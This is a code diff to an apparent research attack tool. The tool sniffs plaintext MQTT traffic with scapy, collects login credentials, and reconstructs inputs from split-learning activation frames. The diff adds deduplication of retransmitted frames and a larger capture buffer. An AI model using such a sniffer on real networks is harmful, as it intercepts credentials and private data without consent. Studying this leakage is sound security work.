@@ -12,7 +12,7 @@ stream that opens with a TLS record is counted and never parsed: TLS leaves noth
 
 import logging
 import threading
-from collections import Counter
+from collections import Counter, OrderedDict
 from pathlib import Path
 
 from scapy.config import conf
@@ -29,6 +29,7 @@ log = logging.getLogger("splitleak.attack")
 CONNECT, PUBLISH = 1, 3
 TLS_HANDSHAKE = 0x16  # the content type byte every TLS connection opens with
 MQTT_PORT = DEFAULT_PORTS["mqtt"]
+CAPTURE_BUFFER = 64 << 20  # bytes the kernel may queue for the capture socket
 
 
 def varint(data: bytes, at: int) -> tuple[int, int] | None:
@@ -124,6 +125,28 @@ def listen_on(port: int) -> None:
         bind_layers(TCP, MQTTStream, **{direction: port})
 
 
+RECENT = 1024  # frames per node remembered, to count a frame handed over twice once
+
+
+class _Seen:
+    """A node's frames: how many, and the keys (sequence number, capture time) of the recent
+    ones. scapy's reassembly hands a retransmitted segment over again once the stream's buffer
+    was emptied, and a QoS 1 retry is sent again: the same frame, counted once."""
+
+    def __init__(self):
+        self.frames, self.recent = 0, OrderedDict()
+
+    def first(self, frame) -> bool:
+        key = (frame.seq, frame.captured_at)
+        if key in self.recent:
+            return False
+        self.recent[key] = None
+        if len(self.recent) > RECENT:
+            self.recent.popitem(last=False)
+        self.frames += 1
+        return True
+
+
 class Sniffer:
     """Counts, credentials, frames and (with a decoder) reconstructions from captured packets."""
 
@@ -137,7 +160,7 @@ class Sniffer:
         self.frames: list = []  # decoded, not yet reconstructed
         self.lock = threading.Lock()  # scapy's thread appends frames, the caller reconstructs
         self.counts = Counter()
-        self.nodes = NodeTable(int, log, max_nodes)  # frames per node, for a bounded set
+        self.nodes = NodeTable(_Seen, log, max_nodes)  # frames per node, for a bounded set
 
     def on_packet(self, pkt) -> None:
         """scapy's `prn`: every MQTT packet a reassembled segment completes."""
@@ -174,11 +197,14 @@ class Sniffer:
         if not topic.endswith("/activations"):  # status and predictions are not frames
             return
         frame = self.inbox.decode(topic, bytes(publish.value))
-        if frame is not None:
-            with self.lock:
-                self.counts["frames"] += 1
-                self.nodes[frame.node_id] += 1
-                self.frames.append(frame)
+        if frame is None:
+            return
+        with self.lock:
+            if not self.nodes[frame.node_id].first(frame):
+                self.counts["repeats"] += 1
+                return
+            self.counts["frames"] += 1
+            self.frames.append(frame)
 
     def reconstruct(self) -> list:
         """Reconstruct the frames decoded since the last call: [(frame, image)]."""
@@ -200,7 +226,8 @@ class Sniffer:
 
     def stats(self) -> dict:
         return {"mqtt_packets": self.counts["mqtt packets"], "frames": self.counts["frames"],
-                "nodes": dict(self.nodes), "rejected": dict(self.inbox.rejected),
+                "nodes": {n: s.frames for n, s in self.nodes.items()},
+                "repeats": self.counts["repeats"], "rejected": dict(self.inbox.rejected),
                 "reconstructed": self.counts["reconstructed"],
                 "unreadable": self.counts["unreadable"], "logins": self.counts["logins"],
                 "nodes_evicted": self.nodes.evicted, "credentials": self.credentials}
@@ -235,6 +262,8 @@ def listen(sniffer: Sniffer, iface: str, stop: threading.Event, every: float = 0
     from scapy.sendrecv import AsyncSniffer
     from scapy.utils import PcapWriter
 
+    conf.bufsize = CAPTURE_BUFFER  # scapy's 64 KiB drops segments of a burst: the kernel
+    # queues what this thread has not read yet, up to its net.core.rmem_max (root lifts that)
     writer = PcapWriter(str(write), sync=True) if write else None
     capture = AsyncSniffer(iface=iface, session=_Recording(writer) if writer else TCPSession,
                            prn=sniffer.on_packet, store=False, started_callback=on_ready)
